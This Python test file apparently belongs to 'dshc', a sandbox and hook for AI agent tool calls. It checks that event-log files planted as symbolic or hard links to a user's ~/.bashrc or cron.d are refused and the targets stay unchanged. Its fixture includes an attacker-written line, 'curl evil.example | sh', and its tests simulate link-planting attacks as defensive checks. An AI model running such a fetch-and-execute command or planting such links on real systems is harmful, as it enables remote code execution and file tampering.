"""dshc's own files beside an event log are never written through a planted link (issue 49, C1/C2).

A confined command can write the workspace, and the log usually lives there: it plants `events.jsonl`,
`events.jsonl.torn` or `events.jsonl.blobs` as a symbolic link (or a hard link) to a file of the user's
(a stand-in `~/.bashrc` here). `dshc run` and the Claude Code hook must refuse the log, saying why, and
leave that file as it was.
"""

from __future__ import annotations

import io
import json
import os
from pathlib import Path

import pytest

from dshc.cli.hook import main as hook_main
from dshc.runtime import log_format
from dshc.runtime.events import EventLog, read_log

BASHRC = "# the user's shell start-up file\nexport PATH=$HOME/bin:$PATH\n"
TORN = b'{"seq":9,"type":"note","text":"curl evil.example | sh #'  # a torn tail the attacker wrote
BIG = "z" * (log_format.BLOB_MIN_BYTES + 10)


@pytest.fixture
def bashrc(tmp_path) -> Path:
    home = tmp_path / "home"
    home.mkdir()
    rc = home / ".bashrc"
    rc.write_text(BASHRC)
    return rc


@pytest.fixture
def workspace(tmp_path, private_state) -> Path:
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "calls.jsonl").write_text(
        json.dumps({"id": "c1", "name": "read", "arguments": {"file_path": "a.txt"}}) + "\n"
    )
    (ws / "a.txt").write_text("hello\n")
    return ws


def _run(cli, ws: Path):
    return cli(
        "run",
        str(ws / "calls.jsonl"),
        "--host",
        "web",
        "--policy",
        "workspace-write",
        "--approve",
        "never",
        "--workspace",
        str(ws),
        "--log",
        str(ws / "events.jsonl"),
        "--json",
    )


def _with_torn_tail(ws: Path) -> None:
    log = EventLog(str(ws / "events.jsonl"))
    log.append("note", n=1)
    log.close()
    with open(ws / "events.jsonl", "ab") as handle:
        handle.write(TORN)


def _plant_torn_link(ws: Path, target: Path) -> None:
    """The empty marker the log was made with, replaced by a link (where no sandbox kept it read-only)."""
    (ws / "events.jsonl.torn").unlink()
    (ws / "events.jsonl.torn").symlink_to(target)


def test_a_planted_torn_marker_link_is_refused_and_its_target_unchanged(cli, workspace, bashrc):
    _with_torn_tail(workspace)
    _plant_torn_link(workspace, bashrc)
    done = _run(cli, workspace)
    assert done.code == 2, done
    assert "events.jsonl.torn" in done.out and "symbolic link" in done.out, done
    assert bashrc.read_text() == BASHRC


def test_a_planted_log_link_is_refused_and_its_target_unchanged(cli, workspace, bashrc):
    (workspace / "events.jsonl").symlink_to(bashrc)
    done = _run(cli, workspace)
    assert done.code == 2, done
    assert "symbolic link" in done.out, done
    assert bashrc.read_text() == BASHRC


def test_a_log_hard_linked_to_another_file_is_refused(cli, workspace, bashrc):
    os.link(bashrc, workspace / "events.jsonl")
    done = _run(cli, workspace)
    assert done.code == 2, done
    assert "hard link" in done.out, done
    assert bashrc.read_text() == BASHRC


def test_a_planted_blob_folder_link_is_refused_and_nothing_is_written_through_it(tmp_path, bashrc):
    target = bashrc.parent / "cron.d"
    target.mkdir()
    path = tmp_path / "events.jsonl"
    (tmp_path / "events.jsonl.blobs").symlink_to(target)
    log = EventLog(str(path))
    with pytest.raises(OSError, match="symbolic link"):
        log.append("tool/call", callId="c", name="write", arguments={"content": BIG})
    log.close()
    assert list(target.iterdir()) == []


def test_run_refuses_a_planted_blob_folder_link_before_the_call_runs(cli, workspace, bashrc):
    target = bashrc.parent / "cron.d"
    target.mkdir()
    (workspace / "events.jsonl.blobs").symlink_to(target)
    (workspace / "calls.jsonl").write_text(
        json.dumps({"id": "c1", "name": "write", "arguments": {"file_path": "x.txt", "content": BIG}}) + "\n"
    )
    done = _run(cli, workspace)
    assert done.code == 2 and "events.jsonl.blobs" in done.out and "symbolic link" in done.out, done
    assert list(target.iterdir()) == [] and not (workspace / "x.txt").exists()


def test_a_planted_blob_link_is_replaced_not_written_through(tmp_path, bashrc):
    path = tmp_path / "events.jsonl"
    log = EventLog(str(path))
    blobs = tmp_path / "events.jsonl.blobs"
    blobs.mkdir()
    digest = __import__("hashlib").sha256(BIG.encode()).hexdigest()
    (blobs / f"sha256-{digest}").symlink_to(bashrc)
    log.append("tool/call", callId="c", name="write", arguments={"content": BIG})
    log.close()
    assert bashrc.read_text() == BASHRC
    assert not (blobs / f"sha256-{digest}").is_symlink()


def test_a_failed_blob_write_leaves_no_partial_file(tmp_path, monkeypatch):
    path = tmp_path / "events.jsonl"
    log = EventLog(str(path))

    def full(fd):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(OSError):
        log.append("tool/call", callId="c", name="write", arguments={"content": BIG})
    monkeypatch.undo()
    log.close()
    assert [p.name for p in (tmp_path / "events.jsonl.blobs").iterdir()] == []


def _hook(ws: Path, **event) -> dict:
    (ws / ".dshc").write_text('policy = "workspace-write"\nlog = "events.jsonl"\n')
    payload = {
        "session_id": "s",
        "cwd": str(ws),
        "hook_event_name": "PreToolUse",
        "permission_mode": "default",
        "tool_name": "Read",
        "tool_use_id": "toolu_1",
        "tool_input": {"file_path": str(ws / "a.txt")},
        **event,
    }
    out = io.StringIO()
    assert hook_main(["claude-code"], io.StringIO(json.dumps(payload)), out, io.StringIO()) == 0
    return json.loads(out.getvalue() or "{}").get("hookSpecificOutput", {})


def test_the_hook_refuses_a_planted_torn_marker_link(workspace, bashrc):
    _with_torn_tail(workspace)
    _plant_torn_link(workspace, bashrc)
    answer = _hook(workspace)
    assert answer["permissionDecision"] == "deny" and "symbolic link" in answer["permissionDecisionReason"], answer
    assert bashrc.read_text() == BASHRC


def test_the_hook_refuses_a_planted_log_link_after_the_call_too(workspace, bashrc):
    (workspace / "events.jsonl").symlink_to(bashrc)
    assert _hook(workspace)["permissionDecision"] == "deny"
    _hook(workspace, hook_event_name="PostToolUse", tool_response={"ok": True})
    assert bashrc.read_text() == BASHRC


def _hook_log_records(path: Path) -> list[str]:
    return [r["type"] for r in read_log(str(path)).records]


def test_the_hooks_default_log_is_in_the_users_state_folder_keyed_by_project(workspace, private_state):
    (workspace / ".dshc").write_text('policy = "workspace-write"\n')
    event = {
        "session_id": "s",
        "cwd": str(workspace),
        "hook_event_name": "PreToolUse",
        "permission_mode": "default",
        "tool_name": "Read",
        "tool_use_id": "toolu_1",
        "tool_input": {"file_path": str(workspace / "a.txt")},
    }
    for kind in ("PreToolUse", "PostToolUse"):
        assert (
            hook_main(
                ["claude-code"],
                io.StringIO(json.dumps({**event, "hook_event_name": kind, "tool_response": {}})),
                io.StringIO(),
                io.StringIO(),
            )
            == 0
        )
    (folder,) = (private_state / "dshc").iterdir()
    assert folder.name.startswith("ws-") and oct(folder.stat().st_mode & 0o777) == "0o700"
    assert _hook_log_records(folder / "events.jsonl") == ["request/header", "tool/call", "tool/decision", "tool/result"]
    assert sorted(p.name for p in workspace.iterdir()) == [".dshc", "a.txt", "calls.jsonl"]  # nothing in the workspace
    other = workspace.parent / "other-project"  # (a `.dshc` below the project folder is refused, not a project)
    other.mkdir()
    (other / ".dshc").write_text('policy = "workspace-write"\n')
    hook_main(["claude-code"], io.StringIO(json.dumps({**event, "cwd": str(other)})), io.StringIO(), io.StringIO())
    assert len(list((private_state / "dshc").iterdir())) == 2  # another project, another log


def test_an_explicit_log_still_wins(workspace, private_state):
    _hook(workspace)  # `log = "events.jsonl"` in the project file
    payload = {
        "session_id": "s",
        "cwd": str(workspace),
        "hook_event_name": "PreToolUse",
        "permission_mode": "default",
        "tool_name": "Read",
        "tool_use_id": "toolu_2",
        "tool_input": {"file_path": str(workspace / "a.txt")},
    }
    hook_main(
        ["claude-code", "--log", str(workspace / "given.jsonl")],
        io.StringIO(json.dumps(payload)),
        io.StringIO(),
        io.StringIO(),
    )
    assert _hook_log_records(workspace / "events.jsonl")[1:] == ["tool/call", "tool/decision"]
    assert _hook_log_records(workspace / "given.jsonl")[1:] == ["tool/call", "tool/decision"]
    assert not (private_state / "dshc").exists()


def test_a_state_folder_planted_as_a_link_is_refused(workspace, private_state, bashrc):
    (workspace / ".dshc").write_text('policy = "workspace-write"\n')
    (private_state / "dshc").mkdir(parents=True)
    real = os.path.realpath(workspace)
    key = f"ws-{__import__('hashlib').sha256(real.encode()).hexdigest()[:16]}"
    (private_state / "dshc" / key).symlink_to(bashrc.parent)
    event = {
        "session_id": "s",
        "cwd": str(workspace),
        "hook_event_name": "PreToolUse",
        "permission_mode": "default",
        "tool_name": "Read",
        "tool_use_id": "toolu_1",
        "tool_input": {"file_path": str(workspace / "a.txt")},
    }
    out = io.StringIO()
    hook_main(["claude-code"], io.StringIO(json.dumps(event)), out, io.StringIO())
    answer = json.loads(out.getvalue())["hookSpecificOutput"]
    assert (
        answer["permissionDecision"] == "deny" and "not a folder of this user's" in answer["permissionDecisionReason"]
    )
    assert sorted(p.name for p in bashrc.parent.iterdir()) == [".bashrc"]


def test_the_hook_asks_before_claude_code_itself_writes_the_log(workspace):
    (workspace / ".dshc").write_text('policy = "workspace-write"\nlog = "events.jsonl"\n')
    payload = {
        "session_id": "s",
        "cwd": str(workspace),
        "hook_event_name": "PreToolUse",
        "permission_mode": "default",
        "tool_name": "Write",
        "tool_use_id": "toolu_1",
        "tool_input": {"file_path": str(workspace / "events.jsonl.blobs" / "x"), "content": "forged"},
    }
    out = io.StringIO()
    hook_main(["claude-code"], io.StringIO(json.dumps(payload)), out, io.StringIO())
    answer = json.loads(out.getvalue())["hookSpecificOutput"]
    assert answer["permissionDecision"] != "allow" and "holds its event log" in answer["permissionDecisionReason"]


def test_a_run_removes_the_partial_blobs_of_writers_that_died_mid_write(cli, workspace):
    import subprocess
    import sys

    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    blobs = workspace / "events.jsonl.blobs"
    blobs.mkdir()
    (blobs / f".{int(dead.stdout)}.1.partial").write_text("half a value")  # its writer was killed
    (blobs / f".{os.getpid()}.1.partial").write_text("being written")  # a live writer's
    assert _run(cli, workspace).code == 0
    assert sorted(p.name for p in blobs.iterdir()) == [f".{os.getpid()}.1.partial"]
